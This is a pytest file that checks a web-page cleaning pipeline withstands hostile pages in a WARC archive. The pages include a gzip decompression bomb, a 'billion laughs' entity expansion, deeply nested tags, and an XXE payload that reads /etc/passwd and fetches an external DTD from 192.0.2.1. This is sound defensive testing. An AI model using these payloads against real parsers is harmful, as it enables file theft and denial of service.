"""Hostile pages in a run: each is read or quarantined with its reason, in bounded memory, and the run goes on."""

import gzip
import json
import subprocess
import sys
from pathlib import Path

import pytest
from job_articles import read_jsonl

from cleaners import job
from cleaners.settings import load

TEXT = (
    "Warga desa di tepi sungai menanam pohon bersama pada Minggu pagi, kata kepala desa itu. "
    "Bibitnya datang dari kebun mereka sendiri dan dirawat bergiliran oleh tiga kelompok tani. "
    "Sungai itu meluap dua kali tahun lalu, sehingga tebing di bawah jembatan bambu longsor. "
)
GOOD = f"<html><head><title>Menanam Pohon</title></head><body><article><p>{TEXT}</p></article></body></html>".encode()
LAUGHS = "".join(f'<!ENTITY tawa{n} "{f"&tawa{n - 1};" * 10}">' for n in range(1, 10))
PAGES: dict[str, tuple[bytes, str]] = {
    "100 MB": (b"<html><body><p>" + TEXT.encode() * 290_000, "page of over 10000000 bytes"),
    "9 MB": (b"<html><body><p>" + TEXT.encode() * 26_000, "page of over 5000000 characters"),
    "100,000 tags deep": (b"<div>" * 100_000 + TEXT.encode(), "page of over 50000 tags"),
    "10,000 tags deep": (b"<div>" * 10_000 + TEXT.encode(), "no article text"),
    "gzip bomb": (gzip.compress(b"<html>" + b"\0" * 20_000_000), "decompression bomb"),
    "cut gzip": (gzip.compress(GOOD)[:-20], "gzip that ends in the middle"),
    "NUL bytes alone": (b"\0" * 100_000, "binary, or in no known encoding"),
    "NUL bytes among tags": (GOOD.replace(b" ", b"\0 "), ""),
    "endless entities": (b"<html><body><p>" + b"&amp;" * 900_000, ""),
    "billion laughs": (
        f"<!DOCTYPE html [<!ENTITY tawa0 'ha'>{LAUGHS}]><html><body><p>&tawa9; {TEXT}</p></body></html>".encode(),
        "",
    ),
    "files and addresses": (
        b'<!DOCTYPE html [<!ENTITY rahasia SYSTEM "file:///etc/passwd"><!ENTITY % jauh SYSTEM "http://192.0.2.1/a.dtd">'
        b"%jauh;]>" + GOOD.replace(b"pohon", b"&rahasia;"),
        "",
    ),
    "broken encoding": (b"<html><meta charset=gb18030><p>" + bytes(range(128, 256)) * 200, ""),
    "no encoding": (b"<html><p>" + b"\x81\x8d\x8f\x90\x9d" * 900, ""),
    "SVG of script": (
        b'<html><body><svg xmlns="http://www.w3.org/2000/svg"><script>' + b"alert(1);" * 9_000 + b"</script></svg>",
        "no article text",
    ),
    "one script": (b"<html><script>" + b"var a = '<p>';" * 20_000 + b"</script></html>", "no article text"),
    "open comment": (b"<html><!-- " + TEXT.encode() * 900, "no article text"),
    "one attribute": (b'<html><p title="' + b"x" * 900_000, "no article text"),
    "a page of one letter": (b"<html><p>" + b"x" * 4_000_000, "decompression bomb"),
    "blank": (b"<html> </html>", "no article text"),
}
CODE = """
import json, resource, sys
from pathlib import Path
from cleaners import job
from cleaners.job import parts
from cleaners.settings import load
settings = load(None, [("engine.workers", 1, "--set"), ("corpus.format", "jsonl", "--set")])
job.run([Path(sys.argv[1])], Path(sys.argv[2]), settings, clean=True, dedupe=False)
parts.pipeline.cache_clear()  # the sandbox ends with the pipeline, and only then is its memory told
status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
own = int(status["VmHWM"].split()[0])  # its `ru_maxrss` begins with the peak of the tests' own process
print(json.dumps([own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))
"""


def response(body: bytes) -> bytes:
    coding = b"Content-Encoding: gzip\r\n" if body.startswith(b"\x1f\x8b") else b""
    block = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + coding + b"\r\n" + body
    head = f"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: {len(block)}\r\n\r\n".encode()
    return gzip.compress(head + block + b"\r\n\r\n", 1)


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[int]]:
    """The result of a run over the hostile pages, each behind a good one, and the peaks of memory in KiB."""
    folder = tmp_path_factory.mktemp("hostile")
    good = response(GOOD)
    (folder / "a.warc.gz").write_bytes(b"".join(good + response(body) for body, _ in PAGES.values()) + good)
    command = [sys.executable, "-c", CODE, folder / "a.warc.gz", folder / "out"]
    result = subprocess.run(command, stdout=subprocess.PIPE, timeout=200, check=True)
    return folder / "out", json.loads(result.stdout)


def test_every_good_page_is_read_and_no_hostile_one_goes_unseen(done: tuple[Path, list[int]]) -> None:
    kept = {row["line"]: row["text"] for row in read_jsonl(done[0] / "kept.jsonl")}
    lost = {row["line"]: row["reason"] for row in read_jsonl(done[0] / "quarantine.jsonl")}
    lines = range(1, 2 * len(PAGES) + 2)
    assert sorted([*kept, *lost]) == [*lines]
    assert {kept.get(line) for line in lines[::2]} == {TEXT.strip()}
    for (name, (_, reason)), line in zip(PAGES.items(), lines[1::2], strict=True):
        if reason:
            assert reason in lost.get(line, ""), name
        elif line not in kept:
            assert lost[line] == "no article text could be extracted from the page", name


def test_nothing_is_read_from_files(done: tuple[Path, list[int]]) -> None:
    assert "root:" not in (done[0] / "kept.jsonl").read_text()


def test_memory_stays_bounded(done: tuple[Path, list[int]]) -> None:
    assert max(done[1]) < 1_000_000


def test_a_page_that_hangs_is_quarantined_whatever_the_workers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    trap = "import trafilatura\nreal = trafilatura.load_html\ndef load_html(html):\n    while 'jebakan' in html: pass\n"
    (tmp_path / "sitecustomize.py").write_text(f"{trap}    return real(html)\ntrafilatura.load_html = load_html\n")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    pages = [GOOD, GOOD.replace(b"pohon", b"jebakan"), GOOD.replace(b"Minggu", b"Senin")]
    (tmp_path / "a.warc.gz").write_bytes(b"".join(map(response, pages)))
    results = []
    for workers in (1, 2):
        given = {"engine.workers": workers, "extract.page_seconds": 1.0, "corpus.part_bytes": 1_000}
        settings = load(None, [(name, value, "--set") for name, value in given.items()])
        out = tmp_path / f"{workers}.jsonl"
        summary = job.run([tmp_path / "a.warc.gz"], out, settings, clean=True, dedupe=False).summary
        assert (summary.kept, summary.quarantined) == (2, 1)
        results.append((out.read_bytes(), (tmp_path / f"{workers}.jsonl.quarantine.jsonl").read_bytes()))
    assert results[0] == results[1]
    (entry,) = read_jsonl(tmp_path / "1.jsonl.quarantine.jsonl")
    assert (entry["file"], entry["line"]) == ("a.warc.gz", 2)
    assert entry["reason"] == "page that takes over 1 seconds (extract.page_seconds)"
